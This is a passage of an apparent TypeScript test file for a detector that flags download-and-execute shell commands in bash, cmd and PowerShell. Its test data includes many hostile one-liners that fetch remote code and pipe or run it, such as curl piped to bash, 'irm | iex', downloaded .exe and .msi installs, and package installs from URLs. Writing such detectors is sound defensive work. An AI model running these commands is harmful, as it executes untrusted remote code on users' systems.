  ])('does not call %s download-execute', (text, shell) => notDownloadExecute(text, shell));
});

describe('WebClient methods invoked as method objects', () => {
  it('follows .DownloadFile.Invoke(url, file) into the file that is run', () =>
    blocksAs(
      `(New-Object -TypeName Net.WebClient).DownloadFile.Invoke('http://198.51.100.7/u.exe',"$env:APPDATA\\u.exe"); & "$env:APPDATA\\u.exe"`,
      'powershell',
      'dl.file-then-run',
    ));
  it('allows the download alone', () =>
    notDownloadExecute(
      `(New-Object -TypeName Net.WebClient).DownloadFile.Invoke('http://198.51.100.7/r.csv',"$env:TEMP\\r.csv")`,
      'powershell',
    ));
});

describe('downloads that reach a shell through a group, a start command or a redirected input', () => {
  it.each<[string, Shell, string]>([
    // A subshell group's output goes down the pipe: fallbacks from curl to wget to python.
    ['(curl -fsSL http://198.51.100.9/s.sh || wget -q -O- http://198.51.100.9/s.sh) | bash', 'bash', 'dl.pipe-to-interpreter'],
    ['(curl -s http://198.51.100.9/a) | sh', 'bash', 'dl.pipe-to-interpreter'],
    // Process substitution as the shell's input.
    ['bash < <(wget -qO- http://198.51.100.9/b)', 'bash', 'dl.exec-argument'],
    // A file downloaded, then given to a shell as its input.
    ['curl -so /tmp/j.sh http://198.51.100.9/j; sh < /tmp/j.sh', 'bash', 'dl.file-then-run'],
    // cmd /c start … with the PowerShell command quoted: its `|` belongs to PowerShell, not to cmd.
    ['cmd.exe /c start /min powershell -c "irm \'https://198.51.100.9/raw/x\' | iex"', 'cmd', 'dl.pipe-to-interpreter'],
    // finger prints what a remote server sends: saved to a file that is then run.
    ['cmd /c start "" /min cmd /c "finger vke@ahpt.example.net > %TEMP%\\v.cmd && %TEMP%\\v.cmd"', 'cmd', 'dl.file-then-run'],
  ])('blocks %s', (text, shell, ruleId) => blocksAs(text, shell, ruleId));

  it.each<[string, Shell]>([
    ['(cd /var/log && tail -n 50 syslog) | grep -i error', 'bash'],
    ['(echo "report"; df -h) | mail -s disk root', 'bash'],
    ['while read l; do echo "$l"; done < <(curl -s https://198.51.100.9/list.txt)', 'bash'],
    ['diff <(curl -s https://198.51.100.9/a.conf) /etc/a.conf', 'bash'],
    ['sh < /etc/profile.d/locale.sh', 'bash'],
    ['finger admin@srv01.example.com > out.txt & type out.txt', 'cmd'],
    ['cmd /c echo "a | b" & dir', 'cmd'],
  ])('allows %s', (text, shell) => expect(evaluate(text, shell).decision).toBe('allow'));
});

describe('PowerShell: content written to a file where it is downloaded, run later', () => {
  it('follows (iwr …).Content | Out-File and Set-Content -Value (irm …) to the run', () => {
    const save = '(Invoke-WebRequest https://198.51.100.9/s.txt -UseBasicParsing).Content | Out-File $env:TEMP\\s.ps1';
    expect(ruleIds('powershell -ep bypass -f $env:TEMP\\s.ps1', 'powershell', [save])).toContain('dl.file-then-run');
    const set = 'Set-Content -Path $env:TEMP\\a.ps1 -Value (Invoke-RestMethod https://198.51.100.9/a)';
    expect(ruleIds(`${set}\n. $env:TEMP\\a.ps1`, 'powershell')).toContain('dl.file-then-run');
  });

  it('allows the download saved and read, or saved alone', () => {
    const save = '(Invoke-WebRequest https://198.51.100.9/list.txt).Content | Out-File C:\\t\\list.txt';
    expect(evaluate(save, 'powershell').decision).toBe('allow');
    expect(evaluate('Get-Content C:\\t\\list.txt', 'powershell', [save]).decision).toBe('allow');
  });
});

describe('a downloaded archive unpacked into a folder whose name starts with /d', () => {
  it('follows cd /data/… into the unpacked contents (the folder is not taken for cmd’s /d switch)', () => {
    blocksAs(
      'curl -sLo p.tgz https://198.51.100.9/p.tgz && mkdir -p /data/p && tar xzf p.tgz -C /data/p && cd /data/p && ./install.sh',
      'bash',
      'dl.archive-then-run',
    );
  });
});

describe('package managers given a URL, a repository or a package server instead of a package name', () => {
  // Installing runs the package's own code (setup.py and build backends, npm install scripts, gem extensions).
  it.each<[string, Shell]>([
    ['pip install git+https://git.example.net/ops/agent.git@main', 'bash'],
    ['python3 -m pip install --user --no-deps https://cdn.example.net/x-1.0-py3-none-any.whl', 'bash'],
    ["pip3.11 install 'agent @ https://cdn.example.net/agent.tar.gz'", 'bash'],
    ['REPO=git+https://git.example.net/a/b.git\n"$VENV/bin/pip" install --quiet "$REPO"', 'bash'],
    ['npm install -g https://cdn.example.net/pkg.tgz --unsafe-perm', 'bash'],
    ["$pkg = 'https://cdn.example.net/pkg.tgz'\nnpm install -g $pkg --foreground-scripts", 'powershell'],
    ['gem install netdiag --source http://198.51.100.7:8808/ --clear-sources', 'bash'],
    ['pipx run --spec git+https://git.example.net/a/b.git b --serve', 'bash'],
    ['npx https://cdn.example.net/tool.tgz', 'bash'],
    ['pnpm dlx https://cdn.example.net/t.tgz', 'bash'],
    // A host that only starts like a registry's is not it.
    ['gem install netdiag --source https://rubygems.org.example.net/', 'bash'],
  ])('blocks %s', (text, shell) => blocksAs(text, shell, 'dl.package-from-url'));

  it.each<[string, Shell]>([
    ['pip install requests==2.31.0', 'bash'],
    ['pip install -r requirements.txt --index-url https://pypi.example.com/simple', 'bash'],
    ['pip install --extra-index-url https://pkgs.example.com/simple internal-tool', 'bash'],
    ['npm install -g pm2', 'bash'],
    ['gem install bundler --source https://rubygems.org', 'bash'],
    ['pip download https://cdn.example.net/x.whl -d /tmp/wheels', 'bash'],
    ['npm view https://cdn.example.net/pkg.tgz', 'bash'],
    ["echo 'pip install git+https://github.com/x/y' >> README.md", 'bash'],
    // The words after the package of a one-off run are the program's arguments.
    ['pipx run --spec httpx-cli httpx http://www.github.com', 'bash'],
    ['npx http-server https://example.com', 'bash'],
  ])('allows %s', (text, shell) => notDownloadExecute(text, shell));
});

describe('Start-Process joins its argument list with spaces into one command line', () => {
  const fetch = 'iwr https://q.example.com/x -OutFile agent.msi\n';
  it.each([
    `${fetch}Start-Process msiexec.exe -ArgumentList "/i agent.msi", "/quiet"`,
    `${fetch}Start-Process -FilePath "msiexec.exe" -ArgumentList "/i agent.msi","/quiet" -Wait`,
    `${fetch}Start-Process msiexec -ArgumentList '/quiet', '/i agent.msi /norestart'`,
  ])('an item with spaces is several arguments, so the downloaded package installed is seen: %s', (text) => {
    expect(evaluate(text, 'powershell').decision).toBe('block');
    expect(evaluate(text, 'powershell').reasons.map((r) => r.code)).toContain('download_execute');
  });

  it.each([
    `${fetch}Start-Process msiexec.exe -ArgumentList "/i other.msi", "/quiet"`,
    `${fetch}Start-Process msiexec.exe -ArgumentList "/x {0A1B2C3D-0000-0000-0000-000000000000}", "/quiet"`,
  ])('a different local package or an uninstall is not the download run: %s', (text) => notDownloadExecute(text, 'powershell'));
});
